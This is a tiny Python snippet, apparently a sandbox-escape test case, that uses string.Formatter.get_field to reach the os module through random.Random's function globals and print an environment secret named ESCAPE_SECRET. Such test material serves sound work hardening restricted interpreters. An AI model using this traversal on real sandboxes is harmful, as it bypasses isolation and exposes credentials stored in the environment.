# string.Formatter.get_field returns the object itself, not its text.
# effect: env
import random
import string
module, _ = string.Formatter().get_field("0.choice.__func__.__globals__[_os]", (random.Random(),), {})
print(module.environ["ESCAPE_SECRET"])
